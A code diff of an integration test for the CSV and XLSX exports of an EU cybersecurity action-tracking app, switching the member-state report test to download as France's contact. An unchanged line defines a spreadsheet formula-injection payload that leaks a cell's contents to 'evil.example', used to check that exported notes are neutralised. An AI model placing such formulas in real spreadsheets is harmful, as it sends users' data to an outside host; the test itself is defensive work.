@@ -12,6 +12,7 @@ import { startTestServer, type TestServer } from '../support/local-server.js';
 let now = new Date('2013-10-01T09:00:00Z');
 let server: TestServer;
 let viewer: Client;
+let france: Client;
 let refs: string[];
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the figures")';
@@ -22,7 +23,7 @@ beforeAll(async () => {
   viewer = await clientFor(server, 'viewer');
   const enisa = await clientFor(server, 'owner-enisa');
   const coordinator = await clientFor(server, 'coordinator');
-  const france = await clientFor(server, 'contact-fr');
+  france = await clientFor(server, 'contact-fr');
   refs = (await server.store.listActions('eu-cybersecurity-2013')).map((action) => action.ref);
 
   const { version } = await readAction(enisa, '2.1-04');
@@ -41,8 +42,8 @@ async function download(path: string, token: string | null = viewer.token, init:
   return fetch(`${server.url}${path}`, { ...init, headers: token ? { authorization: `Bearer ${token}` } : {} });
 }
 
-async function csv(path: string) {
-  const response = await download(path);
+async function csv(path: string, token = viewer.token) {
+  const response = await download(path, token);
   expect(response.status).toBe(200);
   expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
   const text = await response.text();
@@ -51,8 +52,8 @@ async function csv(path: string) {
   return { response, header, rows: rows.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index]]))) };
 }
 
-async function xlsx(path: string) {
-  const response = await download(path);
+async function xlsx(path: string, token = viewer.token) {
+  const response = await download(path, token);
   expect(response.status).toBe(200);
   expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
   const workbook = new ExcelJS.Workbook();
@@ -107,12 +108,14 @@ describe('the actions export', () => {
 });
 
 describe('the member-state reports export', () => {
+  // The report is under review: its note is for France's contacts and the coordinators only
+  // (test/integration/report-visibility.test.ts follows every role); France's contact downloads it.
   it('as CSV and XLSX: the report, its country and round, its note neutralised', async () => {
-    const { rows } = await csv('/export/reports.csv');
+    const { rows } = await csv('/export/reports.csv', france.token);
     expect(rows).toEqual([
       expect.objectContaining({ Action: '2.1-10', 'Country code': 'FR', Country: 'France', 'Round name': 'Autumn 2013', Status: 'IN_PROGRESS', Note: `'${REPORT_NOTE}`, Review: 'SUBMITTED' }),
     ]);
-    const { workbook } = await xlsx('/export/reports.xlsx');
+    const { workbook } = await xlsx('/export/reports.xlsx', france.token);
     const sheet = sheetRows(workbook.getWorksheet('Member-state reports'));
     expect(sheet.rows).toEqual([expect.objectContaining({ Action: '2.1-10', 'Country code': 'FR', Note: `'${REPORT_NOTE}`, Version: 1 })]);
     expect(sheet.rows[0]?.['Reported (UTC)']).toEqual(new Date('2013-11-20T09:00:00.000Z'));
